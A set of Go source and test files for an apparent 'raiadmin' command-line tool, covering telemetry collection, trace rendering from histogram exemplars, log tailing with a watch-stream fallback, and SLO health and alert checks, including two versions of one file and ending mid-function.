	_, fsURL, dbURL, keysPath := adminServices(t)
	var out, errb bytes.Buffer
	if code := run([]string{"rerun", "-db", dbURL, "-fs", fsURL, "-keys", keysPath, "-team", "ghost"}, &out, &errb); code == 0 {
		t.Fatal("rerun of unknown team succeeded")
	}
}
