package main

// The observability subcommands: `raiadmin collect` runs the telemetry
// collector (broker -> docstore), `raiadmin trace` renders a job's
// cross-service span tree with the Figure 4 phase decomposition, and
// `raiadmin logs` tails a job's merged event stream.

import (
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"rai/internal/clock"
	"strings"
	"syscall"
	"time"

	"rai/internal/collector"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/readyfile"
	"rai/internal/telemetry"
)

// collect subscribes to the rai.telemetry route and persists batches
// into the database until interrupted. Optional stages ride along:
// tail-based trace retention (-tail-linger), a TTL sweep over the
// persisted collections (-retain), and an SLO engine that scrapes the
// deployment and exports rai_slo_* gauges (-slo-scrape).
func collect(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin collect", flag.ContinueOnError)
	fs.SetOutput(stderr)
	brokerAddr := fs.String("broker", "127.0.0.1:7400", "broker address")
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	metricsAddr := fs.String("metrics-addr", "", "serve the collector's own /metrics here (empty = off)")
	prefetch := fs.Int("prefetch", 64, "subscription in-flight window")
	retain := fs.Duration("retain", 0, "delete persisted traces and events older than this (0 = keep forever)")
	tailLinger := fs.Duration("tail-linger", 0, "buffer each trace this long after its last span before deciding retention (0 = persist everything immediately)")
	tailKeep := fs.Float64("tail-keep", 0.1, "retention probability for traces that are neither errored nor slow (with -tail-linger)")
	tailSlow := fs.Float64("tail-slow-quantile", 0.99, "always keep traces with root duration at or above this quantile of the observed distribution (with -tail-linger)")
	sloPath := fs.String("slo", "", "SLO config JSON (empty = the built-in objectives)")
	sloScrape := fs.String("slo-scrape", "", "comma-separated metrics URLs to evaluate SLOs against (empty = SLO engine off)")
	sloInterval := fs.Duration("slo-interval", 15*time.Second, "SLO scrape cadence (with -slo-scrape)")
	readyPath := fs.String("ready-file", "", "write a JSON readiness document (pid, metrics address) here once collecting")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	queue, err := core.NewRemoteQueue(context.Background(), *brokerAddr)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin collect: %v\n", err)
		return 1
	}
	defer queue.Close()

	reg := telemetry.NewRegistry()
	telemetry.RegisterBuildInfo(reg, "raiadmin-collect", version, nil)
	telemetry.RegisterProcessMetrics(reg)
	health := telemetry.NewHealth()
	var metricsBound string
	if *metricsAddr != "" {
		addr, closeMetrics, err := reg.ServeMetrics(*metricsAddr, health.Mount)
		if err != nil {
			fmt.Fprintf(stderr, "raiadmin collect: metrics listener: %v\n", err)
			return 1
		}
		defer closeMetrics()
		metricsBound = addr
		fmt.Fprintf(stdout, "metrics on http://%s/metrics\n", addr)
	}

	c := &collector.Collector{
		Queue:     queue,
		DB:        docstore.NewClient(*dbURL),
		Telemetry: reg,
		Log:       telemetry.NewLogger("raiadmin-collect", telemetry.WithLogWriter(stderr)),
		Prefetch:  *prefetch,
		Tail: collector.TailConfig{
			Linger:       *tailLinger,
			KeepRate:     *tailKeep,
			SlowQuantile: *tailSlow,
		},
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if *retain > 0 {
		go c.RunRetention(ctx, collector.RetentionConfig{Retain: *retain})
		fmt.Fprintf(stdout, "retention sweep: dropping traces/events older than %v\n", *retain)
	}
	if *sloScrape != "" {
		engine, err := newSLOEngine(*sloPath)
		if err != nil {
			fmt.Fprintf(stderr, "raiadmin collect: %v\n", err)
			return 1
		}
		engine.Export(reg)
		urls := strings.Split(*sloScrape, ",")
		go engine.Run(ctx, urls, *sloInterval, func(err error) {
			fmt.Fprintf(stderr, "raiadmin collect: slo scrape: %v\n", err)
		})
		fmt.Fprintf(stdout, "slo engine scraping %d endpoint(s) every %v\n", len(urls), *sloInterval)
	}
	fmt.Fprintf(stdout, "collecting %s/%s from %s into %s\n",
		core.TelemetryTopic, core.TelemetryChannel, *brokerAddr, *dbURL)
	// The ready file is written before Run's subscribe completes; the
	// broker buffers the telemetry topic's backlog, so records published
	// in that window are delivered, not lost.
	if *readyPath != "" {
		info := readyfile.Info{Service: "raiadmin-collect", PID: os.Getpid(), MetricsAddr: metricsBound}
		if err := readyfile.Write(*readyPath, info); err != nil {
			fmt.Fprintf(stderr, "raiadmin collect: %v\n", err)
			return 1
		}
	}
	health.SetReady(true)
	defer health.SetReady(false)
	if err := c.Run(ctx); err != nil {
		fmt.Fprintf(stderr, "raiadmin collect: %v\n", err)
		return 1
	}
	return 0
}

// traceCmd prints the assembled span tree for one job — or, with
// -exemplar, for the trace a histogram exemplar points at: the bridge
// from "the p99 looks bad" to the concrete request that caused it.
func traceCmd(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin trace", flag.ContinueOnError)
	fs.SetOutput(stderr)
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	exemplar := fs.String("exemplar", "", `pick the trace from a scraped exemplar instead of a job id ("slowest" = largest exemplar value)`)
	metricsURL := fs.String("metrics", "", "metrics URL to scrape for -exemplar")
	metricName := fs.String("metric", "", "restrict -exemplar to metric names with this prefix")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	db := docstore.NewClient(*dbURL)
	if *exemplar != "" {
		if *exemplar != "slowest" {
			fmt.Fprintf(stderr, "raiadmin trace: unknown -exemplar %q (only \"slowest\" is supported)\n", *exemplar)
			return 2
		}
		if *metricsURL == "" || fs.NArg() != 0 {
			fmt.Fprintln(stderr, "usage: raiadmin trace -exemplar slowest -metrics url [-metric prefix] [-db url]")
			return 2
		}
		snap, err := scrapeMetrics(*metricsURL)
		if err != nil {
			fmt.Fprintf(stderr, "raiadmin trace: %s: %v\n", *metricsURL, err)
			return 1
		}
		best := slowestExemplar(snap, *metricName)
		if best == nil {
			fmt.Fprintf(stderr, "raiadmin trace: no exemplars with trace links on %s (is the daemon recording with ObserveExemplar?)\n", *metricsURL)
			return 1
		}
		traceID := best.Exemplar.TraceID()
		fmt.Fprintf(stdout, "slowest exemplar: %s = %.6gs (trace %s)\n\n", best.Name, best.Exemplar.Value, traceID)
		spans, err := collector.TraceSpans(db, traceID)
		if err != nil {
			fmt.Fprintf(stderr, "raiadmin trace: %v\n", err)
			return 1
		}
		if len(spans) == 0 {
			fmt.Fprintf(stderr, "raiadmin trace: trace %s has no persisted spans (sampled out, not yet collected, or expired by -retain)\n", traceID)
			return 1
		}
		fmt.Fprint(stdout, collector.FormatTimeline(spans))
		return 0
	}
	if fs.NArg() != 1 {
		fmt.Fprintln(stderr, "usage: raiadmin trace [-db url] <job_id>")
		return 2
	}
	jobID := fs.Arg(0)
	spans, err := collector.TraceByJob(db, jobID)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin trace: %v\n", err)
		return 1
	}
	fmt.Fprintf(stdout, "job %s trace %s (%d spans)\n\n", jobID, spans[0].TraceID, len(spans))
	fmt.Fprint(stdout, collector.FormatTimeline(spans))
	return 0
}

// slowestExemplar scans a scrape for the bucket exemplar with the
// largest value whose metric name matches the prefix and that carries a
// trace link. Nil when the scrape holds none.
func slowestExemplar(snap *telemetry.Snapshot, prefix string) *telemetry.Sample {
	var best *telemetry.Sample
	for i := range snap.Samples {
		s := &snap.Samples[i]
		if prefix != "" && !strings.HasPrefix(s.Name, prefix) {
			continue
		}
		if s.Exemplar == nil || s.Exemplar.TraceID() == "" {
			continue
		}
		if best == nil || s.Exemplar.Value > best.Exemplar.Value {
			best = s
		}
	}
	return best
}

// logsCmd prints (and with -follow, tails) a job's merged event stream.
func logsCmd(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin logs", flag.ContinueOnError)
	fs.SetOutput(stderr)
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	follow := fs.Bool("follow", false, "poll for new events until interrupted")
	interval := fs.Duration("interval", 2*time.Second, "poll interval with -follow")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() != 1 {
		fmt.Fprintln(stderr, "usage: raiadmin logs [-db url] [-follow] <job_id>")
		return 2
	}
	jobID := fs.Arg(0)
	db := docstore.NewClient(*dbURL)
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	var cursor float64
	print := func() error {
		events, err := collector.EventsByJob(db, jobID, cursor)
		if err != nil {
			return err
		}
		for _, e := range events {
			fmt.Fprintln(stdout, e.Text())
			if ts := collector.EventUnixSeconds(e); ts > cursor {
				cursor = ts
			}
		}
		return nil
	}
	if err := print(); err != nil {
		fmt.Fprintf(stderr, "raiadmin logs: %v\n", err)
		return 1
	}
	if !*follow {
		return 0
	}
	// Prefer the database's watch stream: each insert into the events
	// collection wakes the cursor immediately instead of waiting out a
	// poll interval. Any failure to negotiate or hold the stream (old
	// server, restart mid-tail) degrades to interval polling.
	if ch := openEventWatch(ctx, db); ch != nil {
		for {
			select {
			case <-ctx.Done():
				return 0
			case _, ok := <-ch:
				if !ok {
					return followByPolling(ctx, stdout, stderr, print, *interval)
				}
				drainWatch(ch)
				if err := print(); err != nil {
					fmt.Fprintf(stderr, "raiadmin logs: %v\n", err)
					return 1
				}
			}
		}
	}
	return followByPolling(ctx, stdout, stderr, print, *interval)
}

// openEventWatch negotiates capabilities and subscribes to the events
// collection; nil means the server cannot stream and the caller should
// poll.
func openEventWatch(ctx context.Context, db *docstore.Client) <-chan docstore.WatchEvent {
	caps, err := db.CapsContext(ctx)
	if err != nil || !caps.Watch {
		return nil
	}
	ch, err := db.WatchContext(ctx, core.CollEvents)
	if err != nil {
		return nil
	}
	return ch
}

// drainWatch empties queued notifications so one print covers a burst.
func drainWatch(ch <-chan docstore.WatchEvent) {
	for {
		select {
		case _, ok := <-ch:
			if !ok {
				return
			}
		default:
			return
		}
	}
}

// followByPolling is the pre-watch behavior: reprint on a fixed cadence.
func followByPolling(ctx context.Context, stdout, stderr io.Writer, print func() error, interval time.Duration) int {
	for {
		select {
		case <-ctx.Done():
			return 0
		case <-clock.Real{}.After(interval):
		}
		if err := print(); err != nil {
			fmt.Fprintf(stderr, "raiadmin logs: %v\n", err)
			return 1
		}
	}
}
