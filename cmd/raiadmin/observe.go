package main

// The observability subcommands: `raiadmin collect` runs the telemetry
// collector (broker -> docstore), `raiadmin trace` renders a job's
// cross-service span tree with the Figure 4 phase decomposition, and
// `raiadmin logs` tails a job's merged event stream.

import (
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"rai/internal/clock"
	"syscall"
	"time"

	"rai/internal/collector"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/readyfile"
	"rai/internal/telemetry"
)

// collect subscribes to the rai.telemetry route and persists batches
// into the database until interrupted.
func collect(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin collect", flag.ContinueOnError)
	fs.SetOutput(stderr)
	brokerAddr := fs.String("broker", "127.0.0.1:7400", "broker address")
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	metricsAddr := fs.String("metrics-addr", "", "serve the collector's own /metrics here (empty = off)")
	prefetch := fs.Int("prefetch", 64, "subscription in-flight window")
	readyPath := fs.String("ready-file", "", "write a JSON readiness document (pid, metrics address) here once collecting")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	queue, err := core.NewRemoteQueue(context.Background(), *brokerAddr)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin collect: %v\n", err)
		return 1
	}
	defer queue.Close()

	reg := telemetry.NewRegistry()
	telemetry.RegisterBuildInfo(reg, "raiadmin-collect", version, nil)
	telemetry.RegisterProcessMetrics(reg)
	var metricsBound string
	if *metricsAddr != "" {
		addr, closeMetrics, err := reg.ServeMetrics(*metricsAddr)
		if err != nil {
			fmt.Fprintf(stderr, "raiadmin collect: metrics listener: %v\n", err)
			return 1
		}
		defer closeMetrics()
		metricsBound = addr
		fmt.Fprintf(stdout, "metrics on http://%s/metrics\n", addr)
	}

	c := &collector.Collector{
		Queue:     queue,
		DB:        docstore.NewClient(*dbURL),
		Telemetry: reg,
		Log:       telemetry.NewLogger("raiadmin-collect", telemetry.WithLogWriter(stderr)),
		Prefetch:  *prefetch,
	}
	fmt.Fprintf(stdout, "collecting %s/%s from %s into %s\n",
		core.TelemetryTopic, core.TelemetryChannel, *brokerAddr, *dbURL)
	// The ready file is written before Run's subscribe completes; the
	// broker buffers the telemetry topic's backlog, so records published
	// in that window are delivered, not lost.
	if *readyPath != "" {
		info := readyfile.Info{Service: "raiadmin-collect", PID: os.Getpid(), MetricsAddr: metricsBound}
		if err := readyfile.Write(*readyPath, info); err != nil {
			fmt.Fprintf(stderr, "raiadmin collect: %v\n", err)
			return 1
		}
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if err := c.Run(ctx); err != nil {
		fmt.Fprintf(stderr, "raiadmin collect: %v\n", err)
		return 1
	}
	return 0
}

// traceCmd prints the assembled span tree for one job.
func traceCmd(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin trace", flag.ContinueOnError)
	fs.SetOutput(stderr)
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() != 1 {
		fmt.Fprintln(stderr, "usage: raiadmin trace [-db url] <job_id>")
		return 2
	}
	jobID := fs.Arg(0)
	spans, err := collector.TraceByJob(docstore.NewClient(*dbURL), jobID)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin trace: %v\n", err)
		return 1
	}
	fmt.Fprintf(stdout, "job %s trace %s (%d spans)\n\n", jobID, spans[0].TraceID, len(spans))
	fmt.Fprint(stdout, collector.FormatTimeline(spans))
	return 0
}

// logsCmd prints (and with -follow, tails) a job's merged event stream.
func logsCmd(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin logs", flag.ContinueOnError)
	fs.SetOutput(stderr)
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	follow := fs.Bool("follow", false, "poll for new events until interrupted")
	interval := fs.Duration("interval", 2*time.Second, "poll interval with -follow")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() != 1 {
		fmt.Fprintln(stderr, "usage: raiadmin logs [-db url] [-follow] <job_id>")
		return 2
	}
	jobID := fs.Arg(0)
	db := docstore.NewClient(*dbURL)
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	var cursor float64
	print := func() error {
		events, err := collector.EventsByJob(db, jobID, cursor)
		if err != nil {
			return err
		}
		for _, e := range events {
			fmt.Fprintln(stdout, e.Text())
			if ts := collector.EventUnixSeconds(e); ts > cursor {
				cursor = ts
			}
		}
		return nil
	}
	if err := print(); err != nil {
		fmt.Fprintf(stderr, "raiadmin logs: %v\n", err)
		return 1
	}
	if !*follow {
		return 0
	}
	// Prefer the database's watch stream: each insert into the events
	// collection wakes the cursor immediately instead of waiting out a
	// poll interval. Any failure to negotiate or hold the stream (old
	// server, restart mid-tail) degrades to interval polling.
	if ch := openEventWatch(ctx, db); ch != nil {
		for {
			select {
			case <-ctx.Done():
				return 0
			case _, ok := <-ch:
				if !ok {
					return followByPolling(ctx, stdout, stderr, print, *interval)
				}
				drainWatch(ch)
				if err := print(); err != nil {
					fmt.Fprintf(stderr, "raiadmin logs: %v\n", err)
					return 1
				}
			}
		}
	}
	return followByPolling(ctx, stdout, stderr, print, *interval)
}

// openEventWatch negotiates capabilities and subscribes to the events
// collection; nil means the server cannot stream and the caller should
// poll.
func openEventWatch(ctx context.Context, db *docstore.Client) <-chan docstore.WatchEvent {
	caps, err := db.CapsContext(ctx)
	if err != nil || !caps.Watch {
		return nil
	}
	ch, err := db.WatchContext(ctx, core.CollEvents)
	if err != nil {
		return nil
	}
	return ch
}

// drainWatch empties queued notifications so one print covers a burst.
func drainWatch(ch <-chan docstore.WatchEvent) {
	for {
		select {
		case _, ok := <-ch:
			if !ok {
				return
			}
		default:
			return
		}
	}
}

// followByPolling is the pre-watch behavior: reprint on a fixed cadence.
func followByPolling(ctx context.Context, stdout, stderr io.Writer, print func() error, interval time.Duration) int {
	for {
		select {
		case <-ctx.Done():
			return 0
		case <-clock.Real{}.After(interval):
		}
		if err := print(); err != nil {
			fmt.Fprintf(stderr, "raiadmin logs: %v\n", err)
			return 1
		}
	}
}
