package main

import (
	"bytes"
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"rai/internal/core"
	"rai/internal/docstore"
)

func insertEvent(t *testing.T, db *docstore.Client, jobID, msg string, tsS float64) {
	t.Helper()
	ts := time.Unix(int64(tsS), 0).UTC().Format(time.RFC3339Nano)
	if _, err := db.Insert(core.CollEvents, docstore.M{
		"job_id": jobID, "msg": msg, "level": "info", "service": "test",
		"ts": ts, "ts_s": tsS,
	}); err != nil {
		t.Fatal(err)
	}
}

func TestLogsPrintsEvents(t *testing.T) {
	srv := httptest.NewServer(docstore.HandlerStore(docstore.New(), nil))
	defer srv.Close()
	db := docstore.NewClient(srv.URL)
	insertEvent(t, db, "job-1", "container started", 100)
	insertEvent(t, db, "job-2", "other job noise", 101)

	var out, errb bytes.Buffer
	if code := logsCmd([]string{"-db", srv.URL, "job-1"}, &out, &errb); code != 0 {
		t.Fatalf("logs exited %d: %s", code, errb.String())
	}
	if !strings.Contains(out.String(), "container started") {
		t.Errorf("output missing event:\n%s", out.String())
	}
	if strings.Contains(out.String(), "other job noise") {
		t.Errorf("output leaked another job's events:\n%s", out.String())
	}
}

// TestLogsWatchNegotiation exercises the -follow fast path: the watch
// stream opens against a capable server and delivers a notification per
// events-collection insert.
func TestLogsWatchNegotiation(t *testing.T) {
	srv := httptest.NewServer(docstore.HandlerStore(docstore.New(), nil))
	defer srv.Close()
	db := docstore.NewClient(srv.URL)

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	ch := openEventWatch(ctx, db)
	if ch == nil {
		t.Fatal("openEventWatch returned nil against a watch-capable server")
	}
	insertEvent(t, db, "job-w", "woke the follower", 200)
	select {
	case ev, ok := <-ch:
		if !ok {
			t.Fatal("watch channel closed before delivering")
		}
		if ev.Coll != core.CollEvents || ev.Op != "insert" {
			t.Fatalf("event = %+v", ev)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("no watch notification within 5s")
	}
	// Extra queued notifications collapse into one reprint.
	insertEvent(t, db, "job-w", "a", 201)
	insertEvent(t, db, "job-w", "b", 202)
	deadline := time.After(5 * time.Second)
	for got := 0; got < 2; {
		select {
		case _, ok := <-ch:
			if !ok {
				t.Fatal("watch channel closed early")
			}
			got++
		case <-deadline:
			t.Fatal("burst notifications never arrived")
		}
	}
	drainWatch(ch)
	cancel()
	select {
	case <-func() chan struct{} {
		done := make(chan struct{})
		go func() {
			for range ch {
			}
			close(done)
		}()
		return done
	}():
	case <-time.After(5 * time.Second):
		t.Fatal("watch channel did not close after cancel")
	}
}

// TestLogsWatchFallback: a server without watch support (or without the
// endpoints at all) yields a nil channel, sending -follow down the
// polling path.
func TestLogsWatchFallback(t *testing.T) {
	srv := httptest.NewServer(http.NotFoundHandler())
	defer srv.Close()
	if ch := openEventWatch(context.Background(), docstore.NewClient(srv.URL)); ch != nil {
		t.Fatal("expected nil watch channel from a watchless server")
	}
}
