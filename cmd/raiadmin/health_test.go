package main

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/slo"
)

// metricsServer serves a fixed Prometheus exposition body.
func metricsServer(t *testing.T, body string) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(body))
	}))
	t.Cleanup(srv.Close)
	return srv
}

const healthyMetrics = "rai_worker_jobs_total{status=\"succeeded\"} 100\n"

const breachedMetrics = "rai_worker_jobs_total{status=\"succeeded\"} 50\n" +
	"rai_worker_jobs_total{status=\"failed\"} 50\n"

func TestHealthGreen(t *testing.T) {
	srv := metricsServer(t, healthyMetrics)
	var out, errb bytes.Buffer
	if code := health([]string{srv.URL + "/metrics"}, &out, &errb); code != 0 {
		t.Fatalf("health exited %d\nstdout: %s\nstderr: %s", code, out.String(), errb.String())
	}
	if !strings.Contains(out.String(), "worker-availability") || !strings.Contains(out.String(), "ok") {
		t.Errorf("output missing healthy objective line:\n%s", out.String())
	}
	if strings.Contains(out.String(), "BREACH") {
		t.Errorf("healthy deployment reported a breach:\n%s", out.String())
	}
}

func TestHealthRedOnBurn(t *testing.T) {
	// 50% lifetime failure against a 99% target burns 50x budget — far
	// past both default rules' thresholds, so the one-shot evaluation
	// must go red with a nonzero exit.
	srv := metricsServer(t, breachedMetrics)
	var out, errb bytes.Buffer
	if code := health([]string{srv.URL + "/metrics"}, &out, &errb); code != 1 {
		t.Fatalf("health exited %d, want 1\nstdout: %s", code, out.String())
	}
	if !strings.Contains(out.String(), "BREACH") {
		t.Errorf("breached deployment not flagged:\n%s", out.String())
	}
}

func TestHealthJSON(t *testing.T) {
	srv := metricsServer(t, breachedMetrics)
	var out, errb bytes.Buffer
	if code := health([]string{"-json", srv.URL + "/metrics"}, &out, &errb); code != 1 {
		t.Fatalf("health exited %d, want 1: %s", code, errb.String())
	}
	var statuses []slo.ObjectiveStatus
	if err := json.Unmarshal(out.Bytes(), &statuses); err != nil {
		t.Fatalf("bad JSON: %v\n%s", err, out.String())
	}
	var found bool
	for _, st := range statuses {
		if st.Name == "worker-availability" {
			found = true
			if st.Healthy {
				t.Error("worker-availability reported healthy at 50% failure")
			}
			if st.Bad != 50 || st.Total != 100 {
				t.Errorf("bad/total = %v/%v, want 50/100", st.Bad, st.Total)
			}
		}
	}
	if !found {
		t.Fatalf("worker-availability missing from %s", out.String())
	}
}

func TestHealthAllEndpointsDown(t *testing.T) {
	dead := httptest.NewServer(http.NotFoundHandler())
	dead.Close()
	var out, errb bytes.Buffer
	if code := health([]string{dead.URL + "/metrics"}, &out, &errb); code != 1 {
		t.Fatalf("health exited %d, want 1 when nothing is scrapeable", code)
	}
	if !strings.Contains(errb.String(), "no metrics endpoint") {
		t.Errorf("stderr does not explain the failure: %s", errb.String())
	}
}

func TestHealthUsage(t *testing.T) {
	var out, errb bytes.Buffer
	if code := health(nil, &out, &errb); code != 2 {
		t.Fatalf("health with no URLs exited %d, want 2", code)
	}
}

func TestAlertsQuietWhenClean(t *testing.T) {
	srv := metricsServer(t, healthyMetrics)
	var out, errb bytes.Buffer
	if code := alerts([]string{srv.URL + "/metrics"}, &out, &errb); code != 0 {
		t.Fatalf("alerts exited %d: %s", code, errb.String())
	}
	if out.Len() != 0 {
		t.Errorf("clean deployment produced alert output:\n%s", out.String())
	}
}

func TestAlertsListsFiringRules(t *testing.T) {
	srv := metricsServer(t, breachedMetrics)
	var out, errb bytes.Buffer
	if code := alerts([]string{srv.URL + "/metrics"}, &out, &errb); code != 1 {
		t.Fatalf("alerts exited %d, want 1\nstdout: %s", code, out.String())
	}
	for _, want := range []string{"worker-availability", "page", "ticket"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("alert lines missing %q:\n%s", want, out.String())
		}
	}
}

func TestAlertsJSONEmptyArrayWhenClean(t *testing.T) {
	srv := metricsServer(t, healthyMetrics)
	var out, errb bytes.Buffer
	if code := alerts([]string{"-json", srv.URL + "/metrics"}, &out, &errb); code != 0 {
		t.Fatalf("alerts exited %d: %s", code, errb.String())
	}
	if got := strings.TrimSpace(out.String()); got != "[]" {
		t.Errorf("clean -json output = %q, want []", got)
	}
}

func TestHealthCustomConfig(t *testing.T) {
	// A custom -slo file replaces the built-ins: a 50%-failure scrape is
	// fine under a 0.4 target.
	cfg := `{"objectives":[{"name":"lenient","target":0.4,` +
		`"total":{"name":"rai_worker_jobs_total"},` +
		`"bad":{"name":"rai_worker_jobs_total","labels":{"status":"failed"}}}]}`
	dir := t.TempDir()
	path := dir + "/slo.json"
	if err := os.WriteFile(path, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	srv := metricsServer(t, breachedMetrics)
	var out, errb bytes.Buffer
	if code := health([]string{"-slo", path, srv.URL + "/metrics"}, &out, &errb); code != 0 {
		t.Fatalf("health exited %d under the lenient config\nstdout: %s\nstderr: %s",
			code, out.String(), errb.String())
	}
	if strings.Contains(out.String(), "worker-availability") {
		t.Errorf("built-in objectives leaked past a custom config:\n%s", out.String())
	}
}

// insertSpan persists one span document the way the collector does.
func insertSpan(t *testing.T, db *docstore.Client, traceID, spanID, parentID, name, service string, start, end time.Time) {
	t.Helper()
	if _, err := db.Insert(core.CollTraces, docstore.M{
		"trace_id": traceID, "span_id": spanID, "parent_id": parentID,
		"name": name, "service": service,
		"start": start.UTC().Format(time.RFC3339Nano), "end": end.UTC().Format(time.RFC3339Nano),
		"start_s": float64(start.Unix()),
	}); err != nil {
		t.Fatal(err)
	}
}

func TestTraceExemplarSlowest(t *testing.T) {
	// The metrics scrape links buckets to traces; -exemplar slowest must
	// pick the largest value (tr-slow at 4.2s, not tr-fast at 0.5s) and
	// render that trace from the docstore.
	exposition := "# TYPE rai_worker_job_seconds histogram\n" +
		"rai_worker_job_seconds_bucket{le=\"1\"} 1 # {trace_id=\"tr-fast\"} 0.5\n" +
		"rai_worker_job_seconds_bucket{le=\"+Inf\"} 2 # {trace_id=\"tr-slow\"} 4.2\n" +
		"rai_worker_job_seconds_sum 4.7\n" +
		"rai_worker_job_seconds_count 2\n"
	msrv := metricsServer(t, exposition)
	dsrv := httptest.NewServer(docstore.HandlerStore(docstore.New(), nil))
	defer dsrv.Close()
	db := docstore.NewClient(dsrv.URL)
	t0 := time.Date(2017, 5, 1, 12, 0, 0, 0, time.UTC)
	insertSpan(t, db, "tr-slow", "s1", "", "job.submit", "rai", t0, t0.Add(4200*time.Millisecond))
	insertSpan(t, db, "tr-slow", "s2", "s1", "job.execute", "raiworker", t0.Add(time.Second), t0.Add(4*time.Second))
	insertSpan(t, db, "tr-fast", "f1", "", "job.submit", "rai", t0, t0.Add(500*time.Millisecond))

	var out, errb bytes.Buffer
	code := traceCmd([]string{"-exemplar", "slowest", "-metrics", msrv.URL + "/metrics", "-db", dsrv.URL}, &out, &errb)
	if code != 0 {
		t.Fatalf("trace exited %d\nstdout: %s\nstderr: %s", code, out.String(), errb.String())
	}
	for _, want := range []string{"tr-slow", "4.2", "job.execute"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("output missing %q:\n%s", want, out.String())
		}
	}
	if strings.Contains(out.String(), "tr-fast") {
		t.Errorf("picked the wrong exemplar:\n%s", out.String())
	}
}

func TestTraceExemplarMetricFilter(t *testing.T) {
	// -metric restricts the search: the queue histogram's exemplar wins
	// even though the job histogram holds a larger value.
	exposition := "rai_worker_job_seconds_bucket{le=\"+Inf\"} 1 # {trace_id=\"tr-job\"} 9.9\n" +
		"rai_queue_delay_seconds_bucket{le=\"+Inf\"} 1 # {trace_id=\"tr-queue\"} 0.2\n"
	msrv := metricsServer(t, exposition)
	dsrv := httptest.NewServer(docstore.HandlerStore(docstore.New(), nil))
	defer dsrv.Close()
	db := docstore.NewClient(dsrv.URL)
	t0 := time.Date(2017, 5, 1, 12, 0, 0, 0, time.UTC)
	insertSpan(t, db, "tr-queue", "q1", "", "queue.wait", "raiworker", t0, t0.Add(200*time.Millisecond))

	var out, errb bytes.Buffer
	code := traceCmd([]string{"-exemplar", "slowest", "-metric", "rai_queue_delay_seconds",
		"-metrics", msrv.URL + "/metrics", "-db", dsrv.URL}, &out, &errb)
	if code != 0 {
		t.Fatalf("trace exited %d: %s", code, errb.String())
	}
	if !strings.Contains(out.String(), "tr-queue") {
		t.Errorf("filter did not select the queue exemplar:\n%s", out.String())
	}
}

func TestTraceExemplarMissingTrace(t *testing.T) {
	// An exemplar whose trace was sampled out of the docstore must fail
	// honestly, not render an empty timeline.
	exposition := "rai_worker_job_seconds_bucket{le=\"+Inf\"} 1 # {trace_id=\"tr-gone\"} 2.2\n"
	msrv := metricsServer(t, exposition)
	dsrv := httptest.NewServer(docstore.HandlerStore(docstore.New(), nil))
	defer dsrv.Close()

	var out, errb bytes.Buffer
	code := traceCmd([]string{"-exemplar", "slowest", "-metrics", msrv.URL + "/metrics", "-db", dsrv.URL}, &out, &errb)
	if code != 1 {
		t.Fatalf("trace exited %d, want 1\nstdout: %s", code, out.String())
	}
	if !strings.Contains(errb.String(), "no persisted spans") {
		t.Errorf("stderr does not explain the missing trace: %s", errb.String())
	}
}
