package main

// The SLO subcommands: `raiadmin health` scrapes a deployment's metrics
// endpoints once, evaluates the declared objectives with the burn-rate
// engine, and prints one line per objective; `raiadmin alerts` prints
// only the firing burn-rate rules. Both exit 0 when clean, 1 on a
// breach (or when nothing could be scraped), and 2 on usage errors, so
// they slot directly into cron jobs, CI gates, and deploy scripts.
//
// A single scrape carries each counter's lifetime totals, which the
// engine treats as the rates since daemon start — meaningful without a
// prior baseline. A long-running evaluation with real trailing windows
// lives in `raiadmin collect -slo-scrape`.

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"

	"rai/internal/slo"
	"rai/internal/telemetry"
)

// newSLOEngine builds an engine from a -slo config path (empty = the
// built-in objectives and SRE-workbook rules).
func newSLOEngine(path string) (*slo.Engine, error) {
	if path == "" {
		return slo.NewEngine(nil), nil
	}
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
